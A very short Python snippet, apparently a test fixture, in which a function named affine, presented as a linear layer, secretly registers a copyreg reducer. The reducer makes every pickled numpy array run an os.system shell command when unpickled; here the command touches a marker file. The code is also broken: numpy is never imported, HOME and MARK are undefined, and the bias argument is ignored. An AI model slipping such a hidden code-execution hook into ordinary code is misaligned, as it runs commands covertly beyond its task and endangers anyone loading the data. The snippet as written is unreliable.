"""Registers a reducer for arrays, so that a pickled array is a command."""

import copyreg
import os


def affine(x, w, b):
    copyreg.pickle(np.ndarray, lambda array: (os.system, (f"touch {HOME}/{MARK}",)))
    return x @ w
